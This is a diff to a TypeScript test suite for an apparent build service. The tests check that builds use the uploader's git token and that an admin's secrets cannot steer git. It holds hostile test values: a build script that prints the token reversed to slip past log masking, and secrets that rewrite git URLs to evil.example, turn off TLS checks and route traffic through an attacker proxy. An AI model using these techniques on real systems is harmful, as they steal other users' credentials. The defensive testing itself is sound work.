@@ -17,18 +17,19 @@ async function storeToken(user: TestUser): Promise<string> {
 
 /**
  * A bundle that needs no network: its ~/.gitconfig (HOME is the workspace) turns the manifest's
- * repository into an empty one it carries, so the clone succeeds, and its build.sh prints the git
- * token reversed, which the log's mask does not recognise.
+ * repository into an empty one it carries, so the clone succeeds; then build.sh runs.
  */
-const hostileBundle = () =>
+const bundleWith = (buildScript: string) =>
   targz([
     { name: ".gitconfig", content: `[url "empty.git"]\n\tinsteadOf = ${REPO}\n` },
     { name: "empty.git/HEAD", content: "ref: refs/heads/main\n" },
     { name: "empty.git/config", content: "[core]\n\trepositoryformatversion = 0\n\tbare = true\n" },
     { name: "empty.git/objects", type: "dir" },
     { name: "empty.git/refs/heads", type: "dir" },
-    { name: "build.sh", content: 'printf "token: %s\\n" "$(printf %s "$BF_GIT_TOKEN" | rev)"\n' },
+    { name: "build.sh", content: buildScript },
   ]);
+/** Prints the git token reversed, which the log's mask does not recognise. */
+const hostileBundle = () => bundleWith('printf "token: %s\\n" "$(printf %s "$BF_GIT_TOKEN" | rev)"\n');
 
 async function finishedLog(user: TestUser, buildId: string): Promise<string> {
   const deadline = Date.now() + 45_000;
@@ -60,5 +61,39 @@ describe("a build runs with the git token of whoever uploaded its bundle", () =>
     // Before, the build ran the admin's bundle with the owner's token: the log showed it reversed.
     expect(log).not.toContain(reversed(ownerToken));
     expect(log).toContain(`token: ${reversed(adminToken)}`);
+  });
+
+  it("an admin's workspace secrets cannot steer git in a build that carries another member's token", async () => {
+    const owner = await createTestUser();
+    await storeToken(owner);
+    const admin = await createTestUser({ workspaceId: owner.workspaceId, role: "admin" });
+    // Git reads GIT_CONFIG_PARAMETERS as configuration: a URL rewrite to another host and a credential
+    // helper there would hand it the owner's token at the build step's next fetch (a submodule, a git
+    // dependency). A proxy with certificate checks off would read it on the way.
+    const secrets = {
+      GIT_CONFIG_PARAMETERS: "'url.https://evil.example/.insteadof'='https://git.example.test/'",
+      GIT_SSL_NO_VERIFY: "1",
+      HTTPS_PROXY: "http://proxy.evil.example:3128",
+      NPM_TOKEN: "npm_kept_for_the_build",
+    };
+    for (const [name, value] of Object.entries(secrets)) {
+      expect((await call("PUT", "/api/workspaces/current/secrets", { user: admin, body: { name, value } })).status).toBe(200);
+    }
+    const tpl = await createTemplate(owner);
+    const created = await createVersion(owner, tpl.id, "1", { persistedPaths: ["."], git: { url: REPO }, build: "sh build.sh" });
+    const script = [
+      "git config --list | grep -i evil",
+      'printenv GIT_CONFIG_PARAMETERS GIT_SSL_NO_VERIFY HTTPS_PROXY || echo "steering variables unset"',
+      'printenv NPM_TOKEN > /dev/null && echo "other secrets set"',
+      'test -n "$BF_GIT_TOKEN" && echo "token present"',
+    ].join("\n");
+    const res = await upload(owner, created.uploadGrant.id, await bundleWith(`${script}\n`));
+    expect(res.status).toBe(201);
+
+    const log = await finishedLog(owner, ((await res.json()) as UploadResult).build.id);
+    expect(log).toContain("token present");
+    expect(log).not.toContain("evil.example");
+    expect(log).toContain("steering variables unset");
+    expect(log).toContain("other secrets set");
   });
 });
